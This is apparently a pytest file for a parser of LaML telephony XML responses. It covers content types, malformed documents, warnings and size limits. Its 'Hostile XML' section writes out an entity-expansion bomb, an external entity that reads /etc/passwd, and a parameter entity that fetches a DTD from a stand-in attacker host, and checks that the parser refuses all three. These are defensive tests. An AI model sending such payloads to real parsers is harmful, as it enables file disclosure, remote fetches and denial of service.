"""Reading answers: content types, well-formedness, hostile XML, limits, and 12200 warnings."""

from __future__ import annotations

import pytest

from numbersmith.traffic import laml
from numbersmith.traffic.errors import DocumentRejected
from numbersmith.traffic.laml import Document, Verb

from .application import xml


def rejected(body: bytes, content_type: str | None = "text/xml") -> DocumentRejected:
    with pytest.raises(DocumentRejected) as caught:
        laml.read(body, content_type)
    return caught.value


# Content types.


@pytest.mark.parametrize(
    "content_type",
    [
        "text/xml",
        "application/xml",
        "text/html",
        "text/xml; charset=utf-8",
        "Application/XML;charset=UTF-8",
        'text/html; charset="utf-8"',
    ],
)
def test_xml_and_html_answers_are_read_as_laml(content_type):
    document = laml.read(xml("<Say>Hi</Say>"), content_type)
    assert document == Document(verbs=(Verb("Say", {}, "Hi"),))


@pytest.mark.parametrize("content_type", ["application/json", "image/png", "text/csv", "", None])
def test_other_content_types_are_refused_with_12300(content_type):
    assert rejected(xml("<Say>Hi</Say>"), content_type).code == 12300


def test_plain_text_is_kept_as_text_to_say_or_send():
    document = laml.read(b"  Thanks, we got it!\n", "text/plain; charset=utf-8")
    assert document == Document(verbs=(), plain_text="Thanks, we got it!")


def test_plain_text_is_decoded_with_its_charset():
    document = laml.read("Grüße".encode("latin-1"), "text/plain; charset=ISO-8859-1")
    assert document.plain_text == "Grüße"


def test_plain_text_with_an_unknown_charset_is_read_as_utf8():
    assert laml.read("é".encode(), "text/plain; charset=klingon").plain_text == "é"


def test_an_empty_answer_is_refused_with_12100():
    assert rejected(b"").code == 12100
    assert rejected(b" \n ", "text/plain").code == 12100


def test_an_empty_answer_may_be_allowed_whatever_its_type():
    # A message's application may answer 204 with nothing at all: no reply, no error.
    assert laml.read(b"", None, allow_empty=True) == Document(verbs=())
    assert laml.read(b"\n", "text/xml", allow_empty=True) == Document(verbs=())


# Well-formedness.


@pytest.mark.parametrize(
    "body",
    [
        b"<Response><Say>Hi</Response>",
        b"<Response>",
        b"Hello there",
        b"<Response></Response><Response></Response>",
        b"<html><body>Not found</body></html>",
        b"<response><Say>Hi</Say></response>",
        b"<Say>Hi</Say>",
    ],
)
def test_answers_that_are_not_a_response_document_are_refused_with_12100(body):
    assert rejected(body).code == 12100


def test_whitespace_before_the_declaration_is_ignored():
    document = laml.read(b"\n\n" + xml("<Hangup/>"), "text/xml")
    assert document.verbs == (Verb("Hangup", {}, ""),)


def test_a_document_in_another_encoding_is_read_by_its_declaration():
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><Response><Say>Olá</Say></Response>'
    document = laml.read(body.encode("latin-1"), "text/xml")
    assert document.verbs[0].text == "Olá"


# Hostile XML.


def test_an_entity_bomb_is_refused_not_expanded():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE Response ['
        b'<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(9)
        )
        + b"]><Response><Say>&j;</Say></Response>"
    )
    refusal = rejected(bomb)
    assert refusal.code == 12100
    assert "Entities" in refusal.reason


def test_an_external_entity_is_refused_and_never_read():
    body = (
        b'<?xml version="1.0"?><!DOCTYPE Response [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        b"<Response><Say>&secret;</Say></Response>"
    )
    refusal = rejected(body)
    assert refusal.code == 12100
    assert "root:" not in refusal.reason


def test_a_parameter_entity_is_refused():
    body = (
        b'<?xml version="1.0"?><!DOCTYPE Response [<!ENTITY % remote SYSTEM '
        b'"http://attacker.invalid/evil.dtd"> %remote;]><Response/>'
    )
    assert rejected(body).code == 12100


def test_an_undeclared_entity_is_not_well_formed():
    assert rejected(xml("<Say>&nbsp;</Say>")).code == 12100


def test_a_doctype_without_entities_does_not_stop_the_document():
    body = b'<!DOCTYPE Response SYSTEM "file:///etc/passwd"><Response><Hangup/></Response>'
    assert laml.read(body, "text/xml").verbs == (Verb("Hangup", {}, ""),)


# The verbs read.


def test_verbs_keep_their_names_attributes_text_and_children_in_order():
    document = laml.read(
        xml(
            '<Gather numDigits="1" action="/menu">'
            '  <Say voice="woman">  Press one  </Say><Pause length="2"/>'
            "</Gather>"
            "<Dial><Number>+14155550100</Number><Client>alice</Client></Dial>"
        ),
        "text/xml",
    )
    assert document.verbs == (
        Verb(
            "Gather",
            {"numDigits": "1", "action": "/menu"},
            "",
            (Verb("Say", {"voice": "woman"}, "Press one"), Verb("Pause", {"length": "2"}, "")),
        ),
        Verb(
            "Dial",
            {},
            "",
            (Verb("Number", {}, "+14155550100"), Verb("Client", {}, "alice")),
        ),
    )
    assert document.warnings == ()


def test_ssml_inside_say_is_spoken_in_place():
    document = laml.read(
        xml('<Say>Hello <emphasis level="strong">dear <w>caller</w></emphasis>, welcome.</Say>'),
        "text/xml",
    )
    say = document.verbs[0]
    assert say.text == "Hello dear caller, welcome."
    assert say.children[0].name == "emphasis"
    assert document.warnings == ()


def test_a_message_body_keeps_its_line_breaks():
    document = laml.read(xml("<Message>line one\nline two</Message>"), "text/xml")
    assert document.verbs[0].text == "line one\nline two"


def test_namespaces_do_not_change_the_names():
    body = b'<Response xmlns="urn:example"><Say>Hi</Say></Response>'
    assert laml.read(body, "text/xml").verbs == (Verb("Say", {}, "Hi"),)


# 12200 warnings: the document still runs.


@pytest.mark.parametrize(
    "verbs,warning",
    [
        ("<Foo/>", "<Foo> is not a LaML verb: it cannot stand in <Response>"),
        ("<say>Hi</say>", "<say> is not a LaML verb: it cannot stand in <Response>"),
        ("<Number>+1</Number>", "<Number> is a noun: it cannot stand in <Response>"),
        ('<Gather numdigits="3"/>', "<Gather> has no attribute 'numdigits'"),
        (
            '<Gather numDigits="x"/>',
            "<Gather numDigits>: 'x' is not a whole number; it is ignored",
        ),
        (
            '<Say loop="-1">Hi</Say>',
            "<Say loop>: '-1' is not a whole number; the default 1 is used",
        ),
        (
            '<Redirect method="PUT">/next</Redirect>',
            "<Redirect method>: 'PUT' is not one of GET, POST; the default 'POST' is used",
        ),
        (
            '<Gather input="voice"/>',
            "<Gather input>: 'voice' is not dtmf, speech or 'dtmf speech'; the default dtmf is used",
        ),
        (
            '<Dial timeout="2">+1</Dial>',
            "<Dial timeout>: 2 is not between 5 and 600; the default 30 is used",
        ),
        ("<Gather><Hangup/></Gather>", "<Hangup> cannot be nested in <Gather>: it is ignored"),
        ("<Dial><Say>Hi</Say></Dial>", "<Say> cannot be nested in <Dial>: it is ignored"),
        ("<Say><Play>x</Play></Say>", "<Play> cannot be nested in <Say>: it is ignored"),
    ],
)
def test_what_the_vendors_warn_about_is_a_warning(verbs, warning):
    document = laml.read(xml(verbs), "text/xml")
    assert document.warnings == (warning,)
    assert len(document.verbs) == 1


@pytest.mark.parametrize(
    "verbs",
    [
        '<Connect><Stream url="wss://a/b"><Parameter name="x" value="1"/></Stream></Connect>',
        '<Enqueue waitUrl="/wait">support</Enqueue>',
        '<Dial><Conference beep="false" startConferenceOnEnter="true">room</Conference></Dial>',
        '<Dial><Sip username="u" password="p">sip:a@b</Sip></Dial>',
        '<Say voice="Polly.Joanna" language="en-US" loop="0">Hi</Say>',
        '<Message to="+1" from="+2" action="/a" method="GET" statusCallback="/s">Hi</Message>',
        '<Record maxLength="0" timeout="0" finishOnKey="" playBeep="FALSE" trim="do-not-trim"/>',
        '<Gather input="speech dtmf" finishOnKey="" actionOnEmptyResult="true" hints="a,b"/>',
        '<Play digits="ww12#">https://a/b.mp3</Play>',
    ],
)
def test_valid_documents_have_no_warnings(verbs):
    assert laml.read(xml(verbs), "text/xml").warnings == ()


def test_warnings_are_capped_with_a_count_of_the_rest():
    document = laml.read(xml("<Foo/>" * (laml.MAX_WARNINGS + 30)), "text/xml")
    assert len(document.warnings) == laml.MAX_WARNINGS + 1
    assert document.warnings[-1] == "and 30 more warnings"


# Limits: megabytes cost bounded memory.


def test_a_megabyte_document_keeps_only_the_first_elements():
    body = xml("<Pause/>" * 300_000)  # 2.4 MB
    document = laml.read(body, "text/xml")
    assert len(document.verbs) == laml.MAX_ELEMENTS
    assert document.warnings == (
        f"the document was cut after its first {laml.MAX_ELEMENTS} elements",
    )


def test_deep_nesting_is_cut_not_recursed_into():
    depth = 50_000
    body = xml("<Say>" + "<s>" * depth + "deep" + "</s>" * depth + "</Say>")
    document = laml.read(body, "text/xml")
    assert len(document.verbs) == 1
    assert f"elements nested deeper than {laml.MAX_DEPTH} levels were ignored" in document.warnings


def test_huge_text_is_cut():
    document = laml.read(xml("<Say>" + "word " * 1_000_000 + "</Say>"), "text/xml")
    assert len(document.verbs[0].text) <= laml.MAX_TEXT
    assert document.warnings == (f"text was cut to its first {laml.MAX_TEXT} characters",)


def test_a_document_under_64_kb_is_never_cut():
    verbs = "<Hangup/>" * (64_000 // len("<Hangup/>"))
    document = laml.read(xml(verbs), "text/xml")
    assert len(document.verbs) == 64_000 // len("<Hangup/>")
    assert document.warnings == ()
